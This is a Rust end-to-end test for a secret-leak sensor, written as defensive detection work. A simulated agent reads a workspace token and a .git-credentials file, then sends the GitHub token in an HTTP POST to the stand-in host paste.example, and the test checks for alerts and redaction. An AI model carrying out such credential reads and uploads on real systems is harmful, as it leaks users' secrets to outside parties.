//! Detection end to end through the real CLI: a watched agent learns its workspace token
//! from its environment and a credential file, then sends both to a loopback server; the
//! sensor must alert on each with the right detector, fingerprint and sink, and must not
//! print either value anywhere (stdout, stderr, argv included).

use std::process::{Command, Stdio};
use std::time::Duration;

use sensor_tests::*;

#[test]
fn learned_and_known_tokens_leaving_the_workspace_raise_alerts_without_leaking() {
    let dir = temp_dir("detect");
    let agent = dir.join("agent-exfil");
    std::fs::copy(workload_bin(), &agent).unwrap();
    let token = "5f0c8c1e-4c2b-4f7e-9d3a-2b1c0d9e8f7a"; // a bare UUIDv4, like CODER_AGENT_TOKEN
    let gh = "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"; // checksum-valid, synthetic
    let cred = dir.join(".git-credentials");
    std::fs::write(&cred, format!("https://x-access-token:{gh}@github.com\n")).unwrap();
    let sink = TcpSink::start();
    let key = "0123456789abcdef0123456789abcdef";
    let cfg = dir.join("cfg.yaml");
    std::fs::write(
        &cfg,
        format!(
            "fingerprint_key: \"{key}\"\nstate_dir: {}\n",
            dir.join("state").display()
        ),
    )
    .unwrap();

    let mut sensor = Command::new(sensor_bin())
        .args([
            "run",
            "--only-flag-scopes",
            "--print-events",
            "--config",
            cfg.to_str().unwrap(),
            "--watch-exe",
            "agent-exfil",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stdout = sensor.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut s = String::new();
        std::io::Read::read_to_string(&mut std::io::BufReader::new(stdout), &mut s).unwrap();
        s
    });
    let running = wait_ready(sensor);
    // The agent sends its env token (passed on its command line too, which must be
    // redacted in alerts) and then the credential file's content.
    // Then the GitHub token goes once to its issuer (normal use: no alert) and once to
    // another host (an alert naming that host).
    let to_issuer = format!(
        "set:GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token {gh}\r\n\r\n"
    );
    let to_paste =
        format!("set:POST /p HTTP/1.1\r\nHost: paste.example\r\nContent-Length: 40\r\n\r\n{gh}");
    let mut child = Command::new(&agent)
        .args([
            format!("set:Coder-Session-Token: {token}\n"),
            format!("tcp:{}", sink.addr),
            format!("read:{}", cred.display()),
            format!("tcp:{}", sink.addr),
            to_issuer,
            format!("tcp:{}", sink.addr),
            to_paste,
            format!("tcp:{}", sink.addr),
        ])
        .env("CODER_AGENT_TOKEN", token)
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait().unwrap().success());
    std::thread::sleep(Duration::from_millis(1000));
    let (status, err) = stop_cli(running);
    let out = reader.join().unwrap();
    assert!(status.success(), "sensor exit {status}:\n{err}\n{out}");

    // The printed events (exec with its argv, reads, writes) are part of the output too.
    let events: Vec<serde_json::Value> = out
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["type"] == "event")
        .collect();
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "exec" && e["process"]["pid"] == pid),
        "no exec event printed for the agent:\n{out}"
    );
    assert!(
        !out.contains(token) && !err.contains(token),
        "agent token leaked:\n{out}\n{err}"
    );
    assert!(
        !out.contains(&gh[4..]) && !err.contains(&gh[4..]),
        "github token leaked"
    );

    let fp = sensor::redact::Fingerprinter::from_hex(key).unwrap();
    let alerts: Vec<serde_json::Value> = out
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["type"] == "finding")
        .collect();
    let of = |fpv: &str| {
        alerts
            .iter()
            .find(|a| a["finding"]["fingerprint"] == fpv && a["process"]["pid"] == pid)
            .cloned()
    };

    let a = of(&fp.fingerprint(token.as_bytes()))
        .unwrap_or_else(|| panic!("no alert for the agent token in:\n{out}"));
    assert_eq!(a["finding"]["validation"], "learned");
    assert_eq!(a["finding"]["length"], 36);
    assert_eq!(a["sink"]["fd_kind"], "socket");
    assert_eq!(a["sink"]["endpoint"]["addr"], sink.addr.to_string());
    let argv = a["process"]["argv"].to_string();
    assert!(argv.contains("REDACTED"), "argv not redacted: {argv}");

    let gh_alerts: Vec<_> = alerts
        .iter()
        .filter(|a| a["finding"]["fingerprint"] == fp.fingerprint(gh.as_bytes()).as_str())
        .collect();
    assert_eq!(
        gh_alerts.len(),
        2,
        "credential-file bytes and the paste, not the issuer call:\n{out}"
    );
    assert!(gh_alerts
        .iter()
        .all(|a| a["sink"]["host"] != "api.github.com"));
    let paste = gh_alerts
        .iter()
        .find(|a| a["sink"]["host"] == "paste.example")
        .expect("alert naming paste.example");
    assert_eq!(paste["sink"]["boundary"], "outside");
    let g = of(&fp.fingerprint(gh.as_bytes()))
        .unwrap_or_else(|| panic!("no alert for the GitHub token in:\n{out}"));
    assert_eq!(g["finding"]["detector"], "github-personal-access-token");
    assert_eq!(g["finding"]["safe_prefix"], "ghp_");
    // The same value was read from the workspace's credential file: certain.
    assert_eq!(g["finding"]["validation"], "learned");
    assert_eq!(g["finding"]["confidence"], "high");
}
